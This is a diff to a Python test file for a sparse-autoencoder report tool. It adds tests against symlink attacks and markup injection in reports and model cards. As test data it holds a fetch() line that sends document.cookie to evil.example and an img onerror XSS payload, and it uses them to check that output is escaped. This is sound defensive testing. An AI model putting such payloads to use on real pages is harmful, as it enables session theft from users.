@@ -1,18 +1,35 @@
 """A report is believed only where this user's machine wrote it; nothing but a report is ever replaced."""
 
+import io
+import json
 import os
+import re
 import shutil
 from collections.abc import Callable
+from contextlib import suppress
 from pathlib import Path
 
 import pytest
+import yaml
+from rich.console import Console
 
 import tiny_report
+from chat_server import Chat, serve
+from scripted_models import knows
+from vsae_lightning.autoencoders.base import SparseAutoencoder
+from vsae_lightning.autoencoders.topk import TopK
 from vsae_lightning.cli import main
 from vsae_lightning.dashboard.data_files import read_data, write_data
 from vsae_lightning.dashboard.report import default_folder, replacing_report
 from vsae_lightning.dashboard.seal import SEAL, is_sealed, write_seal
 from vsae_lightning.errors import InputError
+from vsae_lightning.explanation.material import material
+from vsae_lightning.explanation.prompts import explain
+from vsae_lightning.explanation.report_data import ReportData
+from vsae_lightning.explanation.report_scores import score_report
+from vsae_lightning.explanation.settings import Scoring
+from vsae_lightning.interop.model_card import model_card
+from vsae_lightning.origin import Origin
 
 EVIL = "\nfetch('https://evil.example/?' + document.cookie);\n"
 OPTIONS = ["--tokens", "320", "--maps.which", "none", "--maps.samples", "0"]
@@ -185,6 +202,94 @@ def test_a_members_name_leads_no_report_elsewhere(tmp_path: Path, member: str) -
     with pytest.raises(InputError, match="names no folder"):
         default_folder(tmp_path, member)
     assert default_folder(tmp_path, "a_1-b") == tmp_path.resolve() / "report" / "a_1-b"
+
+
+def test_a_leftover_that_is_a_link_is_not_followed(own: Path, tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "thesis").write_text("words")
+    (own / ".report.killed").symlink_to(victim)
+    with suppress(InputError), replacing_report(own / "report"):
+        pass
+    assert (victim / "thesis").read_text() == "words"
+
+
+def test_scores_are_sealed_only_in_a_report_that_was(tmp_path: Path) -> None:
+    for is_ours in (True, False):
+        folder = tmp_path / str(is_ours) / "report"
+        tiny_report.write_report(folder)
+        if is_ours:
+            write_seal(folder)
+        with serve(Chat(knows)) as served:
+            scoring = Scoring(url=served.address, model="m", features=2, examples=5, api_key=None)
+            score_report(folder, scoring, Console(file=io.StringIO()))
+        assert read_data(folder, "manifest")["has"]["scores"] is True
+        assert is_sealed(folder) is is_ours
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[]",
+        "[" * 100_000,
+        '{"x": 1}',
+        '{"x": {"content": {}, "tokens": -1}}',
+        '{"KEY": {"content": [true], "tokens": 1}}',
+    ],
+)
+def test_odd_answers_beside_a_shipped_report_are_asked_anew(tmp_path: Path, text: str) -> None:
+    folder = tmp_path / "report"
+    tiny_report.write_report(folder)
+    evidence = material(0, ReportData(folder).evidence(0), (scoring := Scoring(model="m", features=[0], examples=5)))
+    assert evidence is not None
+    (tmp_path / "report_answers").mkdir()
+    key = explain(evidence.shown).key("m", scoring.parameters)
+    (tmp_path / "report_answers" / "0.json").write_text(text.replace("KEY", key))
+    with serve(Chat(knows)) as served:
+        asked = Scoring(url=served.address, model="m", features=[0], examples=5)
+        score_report(folder, asked, Console(file=io.StringIO()))
+        assert len(served.requests) == 5
+    assert read_data(folder, "scores")["features"]["0"]["explanation"].startswith("the word")
+
+
+def test_a_link_leads_no_answers_elsewhere(tmp_path: Path) -> None:
+    tiny_report.write_report(tmp_path / "report")
+    (tmp_path / "victim").mkdir()
+    (tmp_path / "report_answers").symlink_to(tmp_path / "victim")
+    scoring = Scoring(url="http://localhost:1", model="m", features=[0])
+    with pytest.raises(InputError, match="is a link to elsewhere"):
+        score_report(tmp_path / "report", scoring, Console(file=io.StringIO()))
+    assert list((tmp_path / "victim").iterdir()) == []
+
+
+HOSTILE = "<img src=x onerror=alert(1)> $x$ | [a](https://evil.example) `b`"
+
+
+def test_hostile_names_and_settings_are_text_in_a_report(own: Path, tmp_path: Path) -> None:
+    folder = tmp_path / "<img src=x onerror=alert(1)>'"
+    shutil.copytree(own, folder, ignore=shutil.ignore_patterns("report*"))
+    config = yaml.safe_load((folder / "config.yaml").read_text())
+    config["data"]["init_args"]["text"]["init_args"]["column"] = HOSTILE  # which no .txt has
+    (folder / "config.yaml").write_text(yaml.safe_dump(config))
+    (folder / "run.json").write_text(json.dumps({"git": {"commit": 5, "dirty": HOSTILE}, "versions": ["x"]}))
+    main(["analyze", str(folder), *OPTIONS, "--against", str(own)])
+    for script in (folder / "report" / "data").rglob("*.js"):
+        text = script.read_text(encoding="ascii")
+        assert "<" not in text
+        assert text.count("\n") == 1
+    page = read_data(folder / "report", "overview")
+    assert HOSTILE in page["config"]
+    assert {"name": "trained with", "value": "commit 5 with changes"} in page["run"]
+    assert read_data(folder / "report", "manifest")["name"] == folder.name
+
+
+def test_hostile_names_are_text_in_a_model_card() -> None:
+    autoencoder = SparseAutoencoder(4, 8, TopK(2))
+    provenance = {"model_name": f"{HOSTILE}\n# forged", "hook_name": "blocks.1.hook_resid_post"}
+    card = model_card(autoencoder, Origin(provenance, {}, {f"test/{HOSTILE}": HOSTILE}, {}), "safetensors")
+    for markup in ("<img", "[a](", "$x", " `b", "\n# forged"):
+        assert re.search(rf"(?<!\\){re.escape(markup)}", card) is None, markup
+    assert "blocks.1.hook_resid_post" in card
 
 
 def test_what_only_looks_like_a_report_is_kept(tmp_path: Path) -> None:
